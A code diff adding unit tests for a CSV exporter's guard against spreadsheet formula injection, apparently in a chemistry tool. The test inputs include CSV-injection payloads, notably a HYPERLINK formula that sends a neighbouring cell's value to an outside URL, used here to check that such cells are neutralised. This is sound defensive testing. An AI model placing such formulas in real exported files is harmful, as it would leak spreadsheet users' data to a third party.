@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { addedNames, csvRow, textOfCell } from '../../src/cli/csv.js';
+import { addedNames, csvRow, isFormula, textOfCell } from '../../src/cli/csv.js';
 
 describe('a row of CSV', () => {
   // RFC 4180, section 2, rules 5 to 7; read back by csv-parse, which is not ours.
@@ -36,4 +36,37 @@ describe('a row of CSV', () => {
       'tpsa',
     ]);
   });
+});
+
+describe('a cell that a spreadsheet would run', () => {
+  // OWASP, CSV Injection: = + - @, tab, line ends, and the full-width forms
+  it.each([
+    '=1+1',
+    '+1+1',
+    '-1-cmd',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\uFF1D1',
+    '\uFF0B1',
+    '\uFF0D1',
+    '\uFF20A',
+    '=HYPERLINK("http://x?"&A1)',
+    '-',
+    '+1e',
+  ])('%j is shown as text on request', (text) => {
+    expect(isFormula(text)).toBe(true);
+    expect(csvRow([text, 'b'])).toBe(csvRow([text, 'b'], { safe: false }));
+    expect(parse(csvRow([text, 'b'], { safe: true }))).toEqual([[`'${text}`, 'b']]);
+  });
+
+  it.each(['CCO', '[NH4+]', 'C=O', '-1', '-1.5e-3', '+.5', '- 1'.slice(2), '', 'a=b', -3, -0.5, null, true])(
+    '%j stays as it is',
+    (cell) => {
+      expect(isFormula(cell)).toBe(false);
+      expect(csvRow([cell, 'b'], { safe: true })).toBe(csvRow([cell, 'b']));
+    },
+  );
 });
